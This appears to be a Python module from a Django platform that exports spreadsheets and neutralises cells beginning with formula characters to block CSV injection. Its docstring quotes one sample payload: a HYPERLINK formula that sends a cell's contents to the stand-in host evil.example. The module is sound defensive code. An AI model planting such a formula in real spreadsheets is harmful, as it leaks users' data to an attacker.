"""Every spreadsheet the platform writes goes out through ``workbook_bytes``, which neutralises
every cell first (OWASP, "CSV injection"): a text that starts with ``=``, ``+``, ``-``, ``@``, a
tab or a carriage return is prefixed with an apostrophe, so a learner registered as
``=HYPERLINK("http://evil.example/?x="&C2,"点此核验")`` is shown as that text, never run as a
formula by Excel or WPS. openpyxl itself stores any text beginning with ``=`` as a formula.

Numbers and dates are not text and are left alone (a negative number is a number). Formulas the
platform means to write would have to be added after neutralising; none is today.
"""

import io
import tempfile
from collections.abc import Iterator

from django.utils.translation import override
from openpyxl import Workbook
from openpyxl.cell import WriteOnlyCell
from openpyxl.styles import Font

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def neutralise(value):
    """The value as a spreadsheet cell may safely hold it (text that would start a formula is
    prefixed with ``'``); any other value unchanged."""
    if isinstance(value, str) and value.startswith(FORMULA_TRIGGERS):
        return "'" + value
    return value


def neutralise_row(values) -> list:
    """A row for a CSV writer or ``worksheet.append``, neutralised."""
    return [neutralise(value) for value in values]


def workbook_neutralise(workbook: Workbook) -> Workbook:
    """Neutralise every cell of every sheet of ``workbook``, in place."""
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if isinstance(cell.value, str) and cell.value.startswith(FORMULA_TRIGGERS):
                    cell.value = "'" + cell.value
    return workbook


def workbook_bytes(workbook: Workbook) -> bytes:
    """The workbook as ``.xlsx`` bytes, every cell neutralised: the one way out for a workbook."""
    buffer = io.BytesIO()
    workbook_neutralise(workbook).save(buffer)
    return buffer.getvalue()


def workbook_chunks(workbook: Workbook, chunk_bytes: int = 64 * 1024) -> Iterator[bytes]:
    """A write-only (streamed) workbook as ``.xlsx`` bytes in chunks, for a
    ``StreamingHttpResponse``: the way out for a workbook too large to hold in memory. A
    write-only workbook cannot be neutralised after the fact, so its rows must have been
    appended through ``neutralise_row``."""
    with tempfile.TemporaryFile() as buffer:
        workbook.save(buffer)
        buffer.seek(0)
        while chunk := buffer.read(chunk_bytes):
            yield chunk


def sheet_with_header(workbook: Workbook, title: str, columns) -> object:
    """A sheet of a write-only workbook with its header row written: ``columns`` are
    (title, width) pairs; the titles bold and neutralised, the first row frozen."""
    sheet = workbook.create_sheet(title)
    for index, (_title, width) in enumerate(columns):
        sheet.column_dimensions[chr(ord("A") + index)].width = width
    sheet.freeze_panes = "A2"
    header = []
    for column_title, _width in columns:
        cell = WriteOnlyCell(sheet, value=neutralise(column_title))
        cell.font = Font(bold=True)
        header.append(cell)
    sheet.append(header)
    return sheet


def chinese_labels(choices) -> dict:
    """Choice values to their Chinese labels, whatever the request's language: the exports are
    Chinese documents, read beside the bureau's other Chinese records."""
    with override("zh-hans"):
        return {value: str(label) for value, label in choices}
